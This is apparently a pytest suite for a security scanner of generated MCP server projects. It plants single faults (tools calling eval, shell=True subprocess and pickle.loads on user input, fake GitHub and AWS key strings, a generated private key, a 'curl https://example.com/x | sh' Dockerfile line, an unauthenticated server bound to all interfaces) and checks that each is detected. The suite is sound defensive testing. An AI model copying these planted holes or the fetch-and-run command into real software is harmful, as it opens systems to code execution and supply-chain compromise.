"""The scan of a generated project finds what is wrong, and says what it lacks.

Each fault is planted alone, into a project that is clean without it. What
looks like a secret is put together here, so that this file holds none.
"""

import json
import os
import re
import stat
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import jsonschema
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from conftest import BIN, Project
from running import install

pytestmark = pytest.mark.slow

posix_only = pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
Plant = Callable[[Path], None]
SARIF = "@microsoft/jest-sarif@1.0.0-beta.0"


@dataclass(frozen=True)
class Scan:
    """A scan's exit code and its report."""

    code: int
    report: dict[str, Any]

    @property
    def findings(self) -> list[tuple[str, str, str]]:
        return [
            (found["id"], found["severity"], found["path"])
            for check in self.report["checks"]
            for found in check["findings"]
        ]

    def check(self, name: str) -> dict[str, Any]:
        checks: list[dict[str, Any]] = self.report["checks"]
        return next(check for check in checks if check["name"] == name)


def scan(
    project: Project, *options: str, env: dict[str, str] | None = None
) -> Scan:
    command = ("security_scan.py", "--format", "json", *options)
    run = project.run("python", *command, env=env)
    assert "Traceback" not in run.stderr, run.stderr
    return Scan(run.returncode, json.loads(run.stdout))


def append(path: str, text: str) -> Plant:
    def plant(project: Path) -> None:
        file = project / path
        file.parent.mkdir(parents=True, exist_ok=True)
        with file.open("a", encoding="utf-8") as stream:
            stream.write(text)

    return plant


def substitute(path: str, pattern: str, new: str) -> Plant:
    def plant(project: Path) -> None:
        file = project / path
        text = file.read_text(encoding="utf-8")
        changed, count = re.subn(pattern, new, text, flags=re.MULTILINE)
        assert count
        file.write_text(changed, encoding="utf-8")

    return plant


def private_key(path: str) -> Plant:
    def plant(project: Path) -> None:
        key = ec.generate_private_key(ec.SECP256R1())
        pem = key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.TraditionalOpenSSL,
            serialization.NoEncryption(),
        )
        (project / path).write_bytes(pem)

    return plant


def without_lines(path: str, start: str) -> Plant:
    def plant(project: Path) -> None:
        file = project / path
        lines = file.read_text(encoding="utf-8").splitlines(keepends=True)
        kept = [line for line in lines if not line.startswith(start)]
        assert len(kept) < len(lines)
        file.write_text("".join(kept), encoding="utf-8")

    return plant


def mode(path: str, bits: int) -> Plant:
    def plant(project: Path) -> None:
        file = project / path
        file.chmod(stat.S_IMODE(file.stat().st_mode) | bits)

    return plant


def tool(body: str, imports: str = "") -> Plant:
    """Plant a tool of a user's own, in the form that the README shows."""
    code = (
        f'"""A tool."""\n\n{imports}from . import tool\n\n\n@tool\n'
        f'def planted(text: str) -> str:\n    """Try."""\n    {body}\n'
    )
    return append("mcp_server/tools/planted.py", code)


TOOL = "mcp_server/tools/planted.py"
GITHUB_KEY = "ghp_" + "x8Kq2Lw9ZrT4vN1mB7cYd3Hf6JgP5sQaVeUt"
AWS_KEY = "AKIA" + "Q3EGRKX7TNVW2LPM"
WORKFLOW = ".github/workflows/ci.yml"

# The fault, the check that sees it, its id and severity, and where it is.
FAULTS: dict[str, tuple[Plant, str, str, str, str]] = {
    "eval": (
        tool("return str(eval(text))"),
        *("code", "MCP-CODE-B307", "critical", TOOL),
    ),
    "shell": (
        tool(
            "return str(subprocess.run(text, shell=True, check=False))",
            "import subprocess\n\n",
        ),
        *("code", "MCP-CODE-B602", "critical", TOOL),
    ),
    "pickle": (
        tool("return str(pickle.loads(text.encode()))", "import pickle\n\n"),
        *("code", "MCP-CODE-B301", "critical", TOOL),
    ),
    "password": (
        append("mcp_server/log.py", '\nPASSWORD = "' + 'tr0ub4dor&3xK"\n'),
        *("secrets", "MCP-SEC-005", "high", "mcp_server/log.py"),
    ),
    "GitHub key": (
        append("deploy/notes.txt", f"token: {GITHUB_KEY}\n"),
        *("secrets", "MCP-SEC-GITHUB-PAT", "critical", "deploy/notes.txt"),
    ),
    "AWS key": (
        append("deploy/notes.txt", f"key {AWS_KEY}\n"),
        *("secrets", "MCP-SEC-AWS-KEY-ID", "critical", "deploy/notes.txt"),
    ),
    "private key": (
        private_key("deploy/id_ecdsa"),
        *("secrets", "MCP-SEC-001", "critical", "deploy/id_ecdsa"),
    ),
    "world-writable": (
        mode("mcp_server/server.py", 0o002),
        *("permissions", "MCP-PERM-001", "high", "mcp_server/server.py"),
    ),
    "no USER": (
        without_lines("Dockerfile", "USER"),
        *("container", "MCP-CON-001", "high", "Dockerfile"),
    ),
    "latest": (
        substitute("Dockerfile", r"^(FROM python):\S+$", r"\1:latest"),
        *("container", "MCP-CON-003", "medium", "Dockerfile"),
    ),
    "curl | sh": (
        append("Dockerfile", "RUN curl https://example.com/x | sh\n"),
        *("container", "MCP-CON-004", "high", "Dockerfile"),
    ),
    "unpinned action": (
        append(WORKFLOW, "      - uses: actions/checkout@v4\n"),
        *("workflows", "MCP-WF-001", "medium", WORKFLOW),
    ),
    "exposed": (
        append(
            ".env", "MCP_TRANSPORT=http\nMCP_HOST=0.0.0.0\nMCP_AUTH=none\n"
        ),
        *("configuration", "MCP-CFG-001", "high", ".env"),
    ),
}


@posix_only
@pytest.mark.parametrize("fault", FAULTS)
def test_fault_is_found_by_its_id(project: Project, fault: str) -> None:
    plant, check, id_, severity, path = FAULTS[fault]
    plant(project.path)
    result = scan(project, "--only", check)
    assert (id_, severity, path) in result.findings, result.report
    assert result.code == 1


@posix_only
def test_sarif_report_is_what_its_schema_says(
    project: Project, tmp_path_factory: pytest.TempPathFactory, worker_id: str
) -> None:
    """The schema comes with Microsoft's matchers for test reports."""
    package = install(tmp_path_factory, worker_id, SARIF)
    folder = package / "node_modules/@microsoft/jest-sarif/lib/schemas"
    (path,) = folder.glob("sarif-2.1.0*.json")
    schema = json.loads(path.read_text(encoding="utf-8"))
    append("deploy/notes.txt", f"token: {GITHUB_KEY}\n")(project.path)
    mode("LICENSE", stat.S_IWOTH)(project.path)
    only = ("--only", "secrets,permissions,dependencies", "--offline")
    command = ("python", "security_scan.py", "--format", "sarif", *only)
    report = json.loads(project.run(*command).stdout)
    results = report["runs"][0]["results"]
    assert len(results) > 1
    jsonschema.validate(report, schema)
    results[0]["level"] = "worst"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(report, schema)


class Advisories(BaseHTTPRequestHandler):
    """A small OSV service that knows one advisory, or none."""

    known: ClassVar[dict[str, str]] = {}  # package → advisory

    def do_POST(self) -> None:
        length = int(self.headers["Content-Length"])
        asked = json.loads(self.rfile.read(length))
        if self.path == "/v1/querybatch":
            queries = asked["queries"]
            self._answer({"results": [self._found(q) for q in queries]})
        else:
            self._answer(self._found(asked))

    def do_GET(self) -> None:
        package = next(k for k, v in self.known.items() if v in self.path)
        self._answer(self._record(package))

    def _found(self, query: dict[str, Any]) -> dict[str, Any]:
        name = query["package"]["name"]
        return {"vulns": [self._record(name)]} if name in self.known else {}

    def _record(self, package: str) -> dict[str, Any]:
        vector = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N"
        start = {"introduced": "0"}
        return {
            "id": self.known[package],
            "modified": "2026-11-01T00:00:00Z",
            "summary": "Planted by a test",
            "severity": [{"type": "CVSS_V3", "score": vector}],
            "affected": [
                {
                    "package": {"ecosystem": "PyPI", "name": package},
                    "ranges": [{"type": "ECOSYSTEM", "events": [start]}],
                }
            ],
        }

    def _answer(self, body: dict[str, Any]) -> None:
        text = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def advisories(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    monkeypatch.setattr(Advisories, "known", {})
    with ThreadingHTTPServer(("127.0.0.1", 0), Advisories) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()


@posix_only
def test_whole_scan_is_secure_and_exceptional(
    project: Project, advisories: str, tmp_path: Path
) -> None:
    path = tmp_path / "report.json"
    options = ("--format", "json", f"--output={path}")
    run = project.run(
        *("python", "security_scan.py", "--advisories", advisories, *options)
    )
    report = json.loads(path.read_text("utf-8"))
    lacking = {
        check["name"]: check["reason"]
        for check in report["checks"]
        if check["state"] != "passed"
    }
    assert lacking == {}
    assert report["overall_status"] == "SECURE"
    assert report["grade"] == "A+"
    assert run.returncode == 0
    assert run.stdout.endswith(
        "Overall Status: SECURE (0 critical, 0 high, 0 medium, 0 low)\n"
        "Security Grade: EXCEPTIONAL (A+)\n"
    )


def test_dependency_with_an_advisory_is_found(
    project: Project, advisories: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Advisories, "known", {"h11": "PYSEC-2026-4711"})
    options = ("--only", "dependencies", "--advisories", advisories)
    result = scan(project, *options)
    assert ("MCP-DEP-PYSEC-2026-4711", "high", "uv.lock") in result.findings
    assert result.code == 1


# What each failing tool does when it is asked to work; all know --version.
FAILURES = {
    "absent": None,
    "crash": "echo 'Traceback: out of cheese' >&2; exit 70",
    "hang": "exec sleep 600",
    "silence": "exit 0",
    "nonsense": "echo 'all is well'",
}
TOOLS = {
    "bandit": "code",
    "hadolint": "container",
    "zizmor": "workflows",
    "uv": "dependencies",
    "pip-audit": "dependencies",
}


@pytest.fixture
def failing(project: Project) -> Iterator[Callable[[str, str], None]]:
    """Return a function that puts a failing program in a tool's place."""
    moved: list[tuple[Path, Path]] = []

    def fail(tool: str, failure: str) -> None:
        version = project.run(tool, "--version").stdout.splitlines()[0]
        program = project.path / BIN / tool
        moved.append((program, program.rename(program.with_suffix(".real"))))
        body = FAILURES[failure]
        if body is None:
            return
        program.write_text(
            "#!/bin/sh\n"
            f"case \"$*\" in *--version*) echo '{version}'; exit;; esac\n"
            f"{body}\n"
        )
        program.chmod(0o755)

    yield fail
    for program, real in moved:
        real.replace(program)


@posix_only
@pytest.mark.parametrize(
    ("tool", "failure"), [*zip(TOOLS, FAILURES, strict=True)]
)
def test_failing_tool_is_never_a_pass(
    project: Project,
    failing: Callable[[str, str], None],
    advisories: str,
    tool: str,
    failure: str,
) -> None:
    failing(tool, failure)
    check = TOOLS[tool]
    timeout = "5" if failure == "hang" else "60"
    options = (
        *("--only", check, "--timeout", timeout),
        *("--advisories", advisories),
    )
    result = scan(project, *options, env={"PATH": "/usr/bin:/bin"})
    ended = result.check(check)
    assert result.code == 3, result.report
    assert result.report["overall_status"] == "INCOMPLETE"
    assert ended["state"] in {"not_run", "error"}
    assert tool in ended["reason"].partition(";")[0]
